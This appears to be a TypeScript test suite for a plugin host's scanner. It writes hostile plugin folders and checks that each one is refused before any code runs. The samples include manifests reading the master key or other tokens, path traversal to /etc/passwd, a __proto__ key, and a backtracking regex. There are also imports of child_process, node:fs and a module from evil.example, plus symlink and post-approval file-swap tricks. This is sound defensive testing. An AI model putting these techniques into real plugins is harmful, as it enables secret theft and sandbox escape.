/** Manifests and folders: what is refused before any code runs. */
import { chmodSync, linkSync, mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { scanPlugin } from '../../../host/registry/scan.ts';
import { bundleFolder } from '../../../host/sandbox/bundle.ts';
import type { Lab } from '../lab.ts';
import type { Outcome, Trial } from '../trial.ts';

const ADAPTER =
  'export class Mine { async receive() { return []; } async send() { return { status: "sent", platform_message_id: "1" }; } }\n';

const MANIFEST = {
  id: 'hostile',
  name: 'Hostile',
  version: '1.0.0',
  adapter_class: './adapter.ts#Mine',
  configuration_schema: { token: { type: 'string', secret: true, required: true } },
};

type Files = Record<string, string | object>;

const writeFolder = (lab: Lab, files: Files): string => {
  const folder = join(lab.folder(), 'hostile');
  mkdirSync(folder, { mode: 0o755 });
  for (const [name, content] of Object.entries({ 'manifest.json': MANIFEST, 'adapter.ts': ADAPTER, ...files })) {
    writeFileSync(join(folder, name), typeof content === 'string' ? content : JSON.stringify(content), { mode: 0o644 });
  }
  return folder;
};

const scan = (folder: string) => scanPlugin(folder, { builtins: new Map(), bundle: bundleFolder });

const problemsOf = async (folder: string): Promise<Outcome> => {
  const source = await scan(folder);
  const errors = source.problems.filter(({ severity }) => severity === 'error');
  const stopped_by = errors.map(({ check, message }) => `${check}: ${message}`).join('\n') || 'nothing';
  return { stopped_by, escaped: source.digest === null && source.bundle === null ? null : 'it could have been approved' };
};

const refused = (name: string, files: Files, expected: RegExp, change: (folder: string, lab: Lab) => void = () => {}): Trial => ({
  name,
  expected,
  run(lab) {
    const folder = writeFolder(lab, files);
    change(folder, lab);
    return problemsOf(folder);
  },
});

const manifest = (name: string, own: object, expected: RegExp): Trial =>
  refused(name, { 'manifest.json': { ...MANIFEST, ...own } }, expected);
const code = (name: string, text: string, expected: RegExp): Trial => refused(name, { 'adapter.ts': text + ADAPTER }, expected);

const manifests: Trial[] = [
  manifest('a field that reads the master key', { configuration_schema: { k: { type: 'string', env: 'AGENTOS_MASTER_KEY' } } }, /env/),
  manifest(
    'a field that reads another plugin’s token',
    { configuration_schema: { k: { type: 'string', env: 'TELEGRAM_BOT_TOKEN' } } },
    /env/,
  ),
  manifest(
    'a pattern that backtracks without end',
    { configuration_schema: { k: { type: 'string', pattern: '^(?=(a+)+$).*$' } } },
    /pattern/,
  ),
  manifest('an adapter outside its folder', { adapter_class: './../other/adapter.ts#Mine' }, /adapter_class|adapter-class/),
  manifest('an adapter at an absolute path', { adapter_class: '/etc/passwd#Mine' }, /adapter_class|adapter-class/),
  manifest('the id of another channel', { id: 'telegram' }, /id/),
  manifest(
    'a webhook outside its room',
    { webhook_url: '/webhooks/../api/tokens', webhook: { verify: { scheme: 'hmac', secret: 'token' } } },
    /webhook/,
  ),
  manifest(
    'a webhook that verifies nothing',
    { webhook_url: '/webhooks/x', webhook: { verify: { scheme: 'hmac', secret: 'absent' } } },
    /secret|verify/,
  ),
  manifest('a permission for everything', { permissions: { network: [{ url: '*' }] } }, /network|address/),
  manifest('a key that is not known', { permissions: { filesystem: true } }, /filesystem/),
  manifest(
    'a credential that is an HMAC key too',
    {
      permissions: {
        hmac: ['token'],
        network: [{ url: 'https://a.example', credentials: [{ secret: 'token', at: 'header:authorization', form: '{}' }] }],
      },
    },
    /hmac/,
  ),
  manifest('a secret with a default', { configuration_schema: { k: { type: 'string', secret: true, default: 'known' } } }, /default/),
  refused('a manifest without end', { 'manifest.json': `{"a":`.repeat(50_000) }, /deeper/),
  refused('a manifest with a key of prototypes', { 'manifest.json': '{"__proto__": {"approved": true}, "id": "hostile"}' }, /__proto__/),
];

const imports: Trial[] = [
  code('node:fs', 'import { readFileSync } from "node:fs"; readFileSync("/etc/passwd");\n', /node:fs|fs/),
  code('child_process', 'const { exec } = require("child_process"); exec("id");\n', /child_process/),
  code('a socket', 'import net from "node:net"; net.connect(1);\n', /net/),
  code('the file of another plugin', 'import secret from "../telegram/adapter.ts"; secret();\n', /outside|telegram/),
  code('an absolute path', 'import x from "/etc/hostname"; x();\n', /outside|hostname/),
  code('a module from the network', 'import x from "https://evil.example/x.js"; x();\n', /evil\.example|URL/),
  code('native code', 'import x from "./x.node"; x();\n', /x\.node/),
  code('an import by computed name', 'export const load = (name: string) => import("node:" + name);\n', /import/),
];

const folders: Trial[] = [
  refused('a link to a file elsewhere', {}, /link/, (folder) => symlinkSync('/etc/passwd', join(folder, 'data.txt'))),
  refused('a folder that is a link', {}, /link/, (folder, lab) => {
    renameSync(folder, `${folder}-real`);
    symlinkSync(`${folder}-real`, join(lab.folder(), 'x'));
    symlinkSync(`${folder}-real`, folder);
  }),
  refused('a file that others may write', {}, /written by other users/, (folder) => chmodSync(join(folder, 'adapter.ts'), 0o666)),
  refused('more files than any plugin has', {}, /more than/, (folder) => {
    for (let i = 0; i < 2_001; i++) writeFileSync(join(folder, `f${i}.txt`), '');
  }),
];

/** Between approval and load: the digest names what was read, and the bytes that run are those. */
const swapped = (name: string, swap: (folder: string) => void): Trial => ({
  name,
  expected: /^another digest$/,
  async run(lab) {
    const folder = writeFolder(lab, {});
    const approved = await scan(folder);
    swap(folder);
    const now = await scan(folder);
    const code = approved.bundle?.code ?? '';
    if (code === '' || code.includes('swapped')) return { stopped_by: 'nothing', escaped: 'the approved bundle holds other bytes' };
    if (now.digest === approved.digest) return { stopped_by: 'nothing', escaped: 'the digest is the same' };
    return { stopped_by: 'another digest', escaped: null };
  },
});

const EVIL = `${ADAPTER}export const swapped = 1;\n`;
const swaps: Trial[] = [
  swapped('the adapter, after the approval', (folder) => writeFileSync(join(folder, 'adapter.ts'), EVIL)),
  swapped('the adapter, by a hard link to another file', (folder) => {
    writeFileSync(join(folder, '..', 'evil.ts'), EVIL);
    renameSync(join(folder, 'adapter.ts'), join(folder, '..', 'was.ts'));
    linkSync(join(folder, '..', 'evil.ts'), join(folder, 'adapter.ts'));
  }),
  swapped('a permission, after the approval', (folder) =>
    writeFileSync(
      join(folder, 'manifest.json'),
      JSON.stringify({ ...MANIFEST, permissions: { network: [{ url: 'https://evil.example' }] } }),
    ),
  ),
  swapped('the whole folder', (folder) => {
    renameSync(folder, `${folder}-was`);
    mkdirSync(folder, { mode: 0o755 });
    writeFileSync(join(folder, 'manifest.json'), JSON.stringify(MANIFEST), { mode: 0o644 });
    writeFileSync(join(folder, 'adapter.ts'), EVIL, { mode: 0o644 });
  }),
];

export const MANIFESTS = { name: 'manifests', trials: manifests };
export const IMPORTS = { name: 'imports', trials: imports };
export const FOLDERS = { name: 'folders', trials: [...folders, ...swaps] };

/** What is read before any plugin runs, as at the start of a host. */
export const ORDINARY_FOLDER: Trial = {
  name: 'a folder that is in order',
  expected: /^nothing$/,
  async run(lab) {
    const { digest, problems } = await scan(writeFolder(lab, {}));
    return { stopped_by: 'nothing', escaped: digest === null ? `it was refused: ${JSON.stringify(problems)}` : null };
  },
};
